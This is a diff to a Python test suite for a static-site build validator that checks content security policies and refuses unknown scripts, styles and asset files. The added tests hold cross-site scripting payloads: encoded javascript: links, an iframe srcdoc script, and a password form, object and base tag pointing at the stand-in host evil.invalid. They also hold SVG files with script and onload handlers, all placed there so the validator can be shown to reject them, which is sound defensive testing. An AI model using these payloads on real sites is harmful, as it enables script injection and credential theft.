@@ -4,12 +4,16 @@ from __future__ import annotations
 
 import re
 import subprocess
+from functools import partial
 
 import pytest
 from scratch import ROOT, language
 
+from prakerja.settings import SETTINGS
 from publicrecord.findings import ValidationFailed
-from publicrecord.pages.policy import HEADERS, set_policies
+from publicrecord.pages.embeds import embed_style
+from publicrecord.pages.policy import HEADERS, digest, set_policies
+from publicrecord.pages.templates import environment
 
 CHART = "grafik/penerima-per-tahun-bruto/"
 PAGES = [
@@ -66,6 +70,12 @@ INJECTED = [
     '<a href="java&#115;cript:window.pwned=1">press</a>',
     '<meta http-equiv="refresh" content="0;url=//evil.invalid">',
     '<p style="position:fixed;inset:0">x</p>',
+    '<a href="javascript&colon;window.pwned=1">press</a>',
+    '<a href="&#106;avascript&#58;window.pwned=1">press</a>',
+    "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>",
+    '<form action="https://evil.invalid/"><input name=password></form>',
+    '<object data="//evil.invalid/x"></object>',
+    '<base href="https://evil.invalid/">',
 ]
 COPIED = ["404.html", "index.html", "en/waves/index.html", "wilayah/aceh/simeulue/index.html"]
 SHOWN = "embed/recipients-by-wave/index.html"
@@ -79,7 +89,8 @@ def unfinished(project, tmp_path):
         html = (project / "site" / name).read_text(encoding="utf-8")
         (tmp_path / name).write_text(html if name == SHOWN else POLICY.sub("", html))
     settings = {code: project / "build" / f"mkdocs.{code}.yml" for code in ("id", "en")}
-    return tmp_path, lambda: set_policies(tmp_path, settings, "", {"", "en/waves/"})
+    style = partial(embed_style, jinja=environment(SETTINGS, language("id")))
+    return tmp_path, lambda: set_policies(tmp_path, settings, "", {"", "en/waves/"}, style)
 
 
 def test_the_policy_is_made_by_name_and_is_the_one_of_the_site(unfinished, site):
@@ -101,8 +112,59 @@ def test_what_the_build_did_not_make_is_refused_and_not_allowed(unfinished, site
     assert (found.rule.rule_id, found.file) == ("page-script-unknown", name)
     told = found.sentence(language("en"))
     assert "number of pages: 1" in told
-    assert re.search("script|style|on(error|load)|href|http-equiv", told, re.IGNORECASE)
+    assert re.search("script|style|on(error|load)|href|http-equiv|form|object", told, re.IGNORECASE)
     assert POLICY.findall(page.read_text()) == POLICY.findall((site / name).read_text())
+
+
+def test_a_style_that_brings_its_own_policy_is_refused(unfinished):
+    """That a page names a style as allowed is no reason to allow it."""
+    folder, finish = unfinished
+    page = folder / SHOWN
+    html = page.read_text(encoding="utf-8")
+    (style,) = re.findall("<style>(.*?)</style>", html, re.DOTALL)
+    other = f"{style}body {{ display: none }}"
+    page.write_text(html.replace(style, other).replace(digest(style), digest(other)))
+    with pytest.raises(ValidationFailed) as refused:
+        finish()
+    assert {found.rule.rule_id for found in refused.value.findings} == {"page-script-unknown"}
+
+
+def test_a_page_that_cannot_have_its_policy_is_refused(unfinished):
+    folder, finish = unfinished
+    page = folder / "en/waves/index.html"
+    page.write_text(page.read_text().replace('<meta charset="utf-8">', '<meta charset="UTF-8">'))
+    with pytest.raises(ValidationFailed):
+        finish()
+
+
+DRAWING = (
+    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
+)
+OTHER_FILES = {
+    "page.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'/>", "page.htm": "<p>x</p>",
+    "evil.js": "window.pwned=1", "program.exe": "MZ", "page.shtml": "", "a.mhtml": "",
+    "script.svg": DRAWING.format("<script>window.pwned=1</script>"),
+    "prefixed.svg": DRAWING.format('<x:script xmlns:x="http://www.w3.org/2000/svg">1</x:script>'),
+    "loaded.svg": DRAWING.format('<g onload="window.pwned=1"/>'),
+    "linked.svg": DRAWING.format('<a xlink:href="java&#10;script:window.pwned=1"/>'),
+    "animated.svg": DRAWING.format('<a><set attributeName="href" to="javascript:1"/></a>'),
+    "foreign.svg": DRAWING.format("<foreignObject/>"),
+    "styled.svg": '<?xml-stylesheet href="x.xsl"?>' + DRAWING.format(""),
+    "broken.svg": DRAWING.format("<b"),
+    "feed.atom": "<feed><script/></feed>",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", OTHER_FILES)
+def test_a_file_of_another_kind_or_a_drawing_that_runs_is_refused(unfinished, name):
+    folder, finish = unfinished
+    (folder / "assets").mkdir()
+    (folder / "assets" / name).write_text(OTHER_FILES[name])
+    with pytest.raises(ValidationFailed) as refused:
+        finish()
+    assert [(f.rule.rule_id, f.file) for f in refused.value.findings] == [
+        ("site-file-unknown", f"assets/{name}")
+    ]
 
 
 @pytest.mark.parametrize("text", ['onerror= data-figure="', "javascript:x", "&lt;script&gt;"])
